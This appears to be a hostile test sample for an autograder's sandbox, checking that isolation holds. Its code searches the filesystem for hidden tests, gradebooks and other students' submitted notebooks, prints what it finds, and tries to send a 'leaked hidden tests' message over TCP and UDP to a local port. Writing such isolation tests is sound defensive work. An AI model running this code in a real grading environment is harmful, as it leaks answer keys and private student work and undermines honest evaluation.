# sample: hostile; hunts for the solutions, the hidden tests, the gradebook and other students' notebooks, prints what it finds, and phones home over the network: it finds only itself and no network
# expect: zero
# needs: isolation
# %% [lora_linear]
import os
import socket

for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "etc")]
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith((".ipynb", ".db", ".json", ".csv", ".html")):
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            if "BEGIN " + "HIDDEN" in text or "gradebook" in name or "submitted" in path:
                print("LEAK", path, text[:2000])
for name, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        s.connect(("127.0.0.1", 47613))
        s.send(b"leaked hidden tests")
        print(f"network {name}: sent a packet")
    except OSError as error:
        print(f"network {name}:", error)
